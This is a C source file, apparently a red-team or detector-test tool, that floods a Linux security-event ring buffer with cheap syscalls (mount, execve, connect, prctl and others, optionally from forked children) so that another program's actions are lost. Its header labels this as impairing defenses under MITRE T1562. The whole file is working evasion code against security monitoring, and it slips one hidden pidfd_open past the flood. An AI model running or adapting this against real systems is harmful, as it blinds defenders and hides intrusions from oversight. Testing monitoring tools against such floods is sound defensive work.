// SPDX-License-Identifier: Apache-2.0
// flood-free-calls PROCS PROCESSES CALLS FORK: fills the ring of security events with calls that cost nothing, so that
// what another program does finds no room there (impair defenses: T1562). PROCESSES children make CALLS rounds each of
// sysinfo, setpgid, prctl, a refused mount, an execve of nothing and a connect to nobody. With FORK, each round is made
// by a child of its own, whose budget is new. Without, each process hides one pidfd_open of itself after its flood.
#include <linux/prctl.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>

#include "flood.h"

static void make_calls(void)
{
	struct sockaddr_in nobody = {.sin_family = AF_INET, .sin_port = htons(1)};
	char *const none[] = {NULL};
	struct sysinfo info;

	sysinfo(&info);
	setpgid(0, 0);
	prctl(PR_SET_NAME, "flood");
	mount("none", "/absent", "none", 0, NULL);
	execve("/absent/program", none, none);
	connect(-1, (struct sockaddr *)&nobody, sizeof(nobody));
}

static void flood(long rounds)
{
	for (long i = 0; i < rounds; i++)
		make_calls();
	syscall(SYS_pidfd_open, getpid(), 0);
}

static void flood_by_children(long rounds)
{
	for (long i = 0; i < rounds; i++) {
		pid_t pid = fork();

		if (pid < 0)
			fail("fork");
		if (pid == 0) {
			make_calls();
			_exit(0);
		}
		waitpid(pid, NULL, 0);
	}
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 98;
	return run_flood(argv, argc > 4 && !strcmp(argv[4], "fork") ? flood_by_children : flood);
}
